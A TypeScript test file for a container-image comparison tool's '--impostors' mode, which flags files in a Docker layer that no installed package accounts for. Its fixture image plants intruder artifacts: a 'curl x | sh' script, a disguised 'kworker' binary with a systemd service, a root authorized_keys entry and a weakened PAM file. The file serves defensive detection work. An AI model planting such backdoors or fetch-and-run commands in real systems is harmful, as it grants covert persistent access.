import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { dpkgDatabase, type MadePackage } from '../../engine-support/dpkg-layers';
import { writeDockerArchive, type MadeFile } from '../../engine-support/made-archive';
import { elfOf } from '../../engine-support/made-packages';
import { emptyFolder, runCli } from './run-cli';

const folder = emptyFolder();
const [clean, twin, planted, bare] = ['clean', 'twin', 'planted', 'bare'].map((name) =>
  join(folder, `${name}.tar`),
) as [string, string, string, string];

const base: MadePackage = {
  ...{ name: 'base', version: '1.0-1' },
  files: { 'usr/bin/login': 'login', 'usr/bin/ls': 'ls', 'usr/share/doc/base/README': 'read me' },
  conffiles: { 'etc/pam.d/login': 'auth\n', 'etc/base.conf': 'a=1\n' },
};

const first: readonly MadeFile[] = [
  { name: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' },
  ...dpkgDatabase([base]),
  { name: 'usr/bin/login', content: 'login', mode: 0o755 },
  { name: 'usr/bin/ls', content: 'ls', mode: 0o755 },
  { name: 'usr/share/doc/base/README', content: 'read me' },
  { name: 'etc/pam.d/login', content: 'auth\n' },
  { name: 'etc/base.conf', content: 'a=1\n' },
  { name: 'srv/old.sh', content: '#!/bin/sh\necho old\n', mode: 0o755 },
];

const intruder: readonly MadeFile[] = [
  { name: 'usr/bin/login', content: 'other', mode: 0o755 },
  { name: 'usr/local/bin/kworker', content: elfOf({ '.text': Buffer.from('x') }), mode: 0o755 },
  { name: 'opt/run.sh', content: '#!/bin/sh\ncurl x | sh\n', mode: 0o755 },
  { name: 'etc/systemd/system/kworker.service', content: '[Service]\nExecStart=/usr/local/bin/kworker\n' },
  { name: 'root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAA x\n' },
  { name: 'etc/pam.d/login', content: 'auth optional\n' },
  { name: 'etc/base.conf', content: 'a=2\n' },
  { name: 'srv/data.json', content: '{"a":1}' },
  { name: 'srv/app.txt', content: 'text' },
];

type Row = Readonly<Record<string, unknown>>;

function impostors(a: string, b: string): Row & { readonly impostors: readonly Row[] } {
  const { status, stdout, left } = runCli(['compare', a, b, '--impostors', '--json']);
  expect([status, left]).toEqual([0, []]);
  return JSON.parse(stdout) as Row & { readonly impostors: readonly Row[] };
}

beforeAll(async () => {
  await writeDockerArchive(clean, [{ tag: 'app:1', layers: [first] }]);
  await writeDockerArchive(twin, [{ tag: 'app:2', layers: [first, [{ name: 'srv/note.txt', content: 'new' }]] }]);
  await writeDockerArchive(planted, [{ tag: 'app:2', layers: [first, intruder] }]);
  await writeDockerArchive(bare, [{ tag: 'bare:1', layers: [[{ name: 'a.sh', content: '#!/bin/sh\n' }]] }]);
});

describe('compare --impostors', () => {
  it('keeps to what no package accounts for, the loudest first, with layer and verdict', () => {
    const found = impostors(clean, planted);
    expect(
      found.impostors.map((one) => [one['kind'], one['path'], one['verdict'], one['change'], one['layer']]),
    ).toEqual([
      ['packaged', 'usr/bin/login', 'changed', 'content', 2],
      ['key', 'root/.ssh/authorized_keys', 'unowned', 'added', 2],
      ['unit', 'etc/pam.d/login', 'configuration-changed', 'content', 2],
      ['unit', 'etc/systemd/system/kworker.service', 'unowned', 'added', 2],
      ['executable', 'usr/local/bin/kworker', 'unowned', 'added', 2],
      ['script', 'opt/run.sh', 'unowned', 'added', 2],
    ]);
    expect(found).toMatchObject({ schema: 'stratigraph.impostors/1', hasPackages: true, a: { references: ['app:1'] } });
    expect(found.impostors[0]).toMatchObject({
      package: expect.stringContaining('pkg:deb/debian/base@1.0-1') as string,
    });
    const { stdout } = runCli(['compare', clean, planted, '--impostors']);
    expect(stdout.split('\n')[0]).toMatch(/^6 impostors of \d+ different paths$/);
    expect(stdout).toMatch(/^executable {2}layer {3}2.* {2}usr\/local\/bin\/kworker {2}only in B, unowned$/m);
  });

  it('is silent where the tags differ in documents only, and the other way round', () => {
    expect(impostors(clean, twin).impostors).toEqual([]);
    expect(impostors(planted, clean).impostors).toEqual([]);
  });

  it('says that an image without a package database cannot be held against one', () => {
    expect(impostors(clean, bare)).toMatchObject({ hasPackages: false, impostors: [{ kind: 'script', path: 'a.sh' }] });
    expect(runCli(['compare', clean, bare, '--impostors']).stderr).toContain('B has no package database');
  });

  it('goes with no other form', () => {
    expect(runCli(['compare', clean, twin, '--impostors', '--path', 'etc/x']).status).toBe(2);
  });
});
